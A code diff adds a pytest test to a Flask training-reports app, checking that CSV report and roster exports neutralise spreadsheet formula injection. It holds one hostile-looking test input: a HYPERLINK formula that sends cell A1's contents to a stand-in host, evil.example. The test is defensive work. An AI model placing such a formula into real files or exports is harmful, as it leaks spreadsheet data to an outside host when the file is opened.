@@ -13,6 +13,7 @@ from flask import Flask
 from central import reports
 from central.ingest import parse_event
 from central.store import SqliteCentralStore
+from station.model import Role
 from station.roster import parse_roster_csv
 from tests.conftest import sample_roster_text
 from tests.test_central_helpers import central_config
@@ -210,3 +211,22 @@ def test_a_trainee_sees_their_own_progress_by_their_link(app: Flask) -> None:
     assert "Progression de Léa" in page and "mentor" in page and "Martin" not in page
     assert anonymous.get("/progress/forged.token").status_code == 404
     assert anonymous.get("/reports/progress/lea").status_code == 302
+
+
+def test_csv_exports_are_safe_to_open_in_a_spreadsheet(
+    app: Flask, store: SqliteCentralStore
+) -> None:
+    """A name that is a formula comes out as text in the report and roster exports."""
+    import csv
+    import io
+
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"clic")'
+    store.upsert_member("lea", formula, Role.TRAINEE)
+    client = app.test_client()
+    login(client, "ines")
+    for url in ("/reports/hours?format=csv", "/admin/roster/export.csv"):
+        rows = list(csv.reader(io.StringIO(client.get(url).get_data(as_text=True))))
+        cells = [c for row in rows for c in row]
+        assert "'" + formula in cells, url
+        assert not any(c[:1] in ("=", "+", "@", "\t", "\r") for c in cells), url
+    assert reports.to_csv([{"hours": -1.5, "note": "-1+2"}]) == "hours,note\n-1.5,'-1+2\n"
